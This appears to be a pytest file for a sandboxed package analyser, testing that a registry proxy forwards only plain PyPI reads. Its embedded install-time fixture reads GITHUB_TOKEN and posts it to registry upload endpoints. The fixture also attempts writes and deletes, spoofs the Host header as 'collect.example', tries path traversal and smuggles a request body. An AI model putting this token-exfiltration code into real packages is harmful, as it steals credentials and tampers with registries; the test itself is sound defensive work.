"""Containment of the registry way out: of everything a package tries against registry names,
only package-manager reads are forwarded, and the proxy's own log proves it."""

from __future__ import annotations

import pytest

from builders import setup_py_package
from clirun import run_cli_json

pytestmark = [pytest.mark.sandbox, pytest.mark.network]

TRICKS = r'''
import http.client, json, os, socket, ssl
tok = os.environ.get("GITHUB_TOKEN", "")
res = []
def https(sni, method, target, host=None, body=None, port=443):
    try:
        c = http.client.HTTPSConnection(sni, port, timeout=20) if port == 443 else http.client.HTTPConnection(sni, port, timeout=20)
        headers = {"Host": host or sni, "Authorization": "token " + tok}
        c.request(method, target, body=body, headers=headers)
        r = c.getresponse(); r.read()
        res.append([sni, method, target, r.status])
    except Exception as e:
        res.append([sni, method, target, type(e).__name__])
https("pypi.org", "GET", "/simple/six/")                              # the one legitimate read
https("upload.pypi.org", "POST", "/legacy/", body=b"content=" + tok.encode())
https("pypi.org", "POST", "/legacy/", body=b"content=" + tok.encode())
https("files.pythonhosted.org", "PUT", "/packages/aa/bb/evil-1.0.tar.gz", body=b"x")
https("pypi.org", "DELETE", "/simple/six/")
https("pypi.org", "GET", "/simple/six/", host="collect.example")       # Host differs from SNI
https("pypi.org", "GET", "/manage/account/")                            # not a package path
https("pypi.org", "GET", "/simple/six/", body=b"smuggled")              # a read with a body
https("pypi.org", "GET", "/simple/%2e%2e/%2e%2e/admin/")
https("pypi.org.", "GET", "/simple/six/")                               # trailing dot
https("pypi.org", "GET", "/simple/six/", port=80)                       # plain HTTP
https("registry.npmjs.org", "GET", "/is-number")                       # another ecosystem's registry
print("PKGTRACE-RESULT " + json.dumps(res))
'''


def test_only_registry_reads_leave(tmp_path, results):
    artifact = setup_py_package(tmp_path / "dist", "pkgtrace-fixture-registry-tricks", TRICKS)
    docs = run_cli_json("analyze", "pypi", "--local", str(artifact), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "180")
    log = docs["report"]["dynamic"]["registry_proxy"]
    forwarded = [(p["host"], p["method"], p["target"]) for p in log if p["decision"] == "forwarded"]
    # pip needs nothing from PyPI for this sdist: the one read is the package's plain GET
    assert set(forwarded) == {("pypi.org", "GET", "/simple/six/")}, log
    net = [e for e in docs["report"]["dynamic"]["phases"]["install"]["network"] if e.get("http")]
    allowed = [(e["tls"]["sni"], e["http"]["method"], e["http"]["target"]) for e in net if e["allowed"]]
    assert set(allowed) == {("pypi.org", "GET", "/simple/six/")}, allowed
    # every trick reached the simulator and is recorded with what happened to it
    seen = {(e.get("tls", {}).get("sni") or e["http"].get("host"), e["http"]["method"], e["http"]["target"])
            for e in net}
    for want in [("upload.pypi.org", "POST", "/legacy/"), ("pypi.org", "POST", "/legacy/"),
                 ("files.pythonhosted.org", "PUT", "/packages/aa/bb/evil-1.0.tar.gz"),
                 ("pypi.org", "DELETE", "/simple/six/"), ("pypi.org", "GET", "/manage/account/"),
                 ("pypi.org.", "GET", "/simple/six/"), ("registry.npmjs.org", "GET", "/is-number")]:
        assert want in seen, (want, seen)
    refused = {(e["http"]["method"], e["http"]["target"]): e["proxy"]["reason"]
               for e in net if (e.get("proxy") or {}).get("decision") == "refused"}
    assert "not a read" in refused[("DELETE", "/simple/six/")]
    assert "not a path" in refused[("GET", "/manage/account/")]
    assert "registry host" in refused[("GET", "/is-number")]  # a pypi run opens only PyPI
    plain = [e for e in net if not e.get("tls") and e["http"]["target"] == "/simple/six/"]
    assert plain and not plain[0]["allowed"] and "plain HTTP" in plain[0]["proxy"]["reason"]
    rules = {f["rule"] for f in docs["report"]["verdict"]["findings"]}
    assert {"DYN-REGISTRY-WRITE", "DYN-REGISTRY-TOKEN-USE", "DYN-REGISTRY-PATH-REFUSED"} <= rules
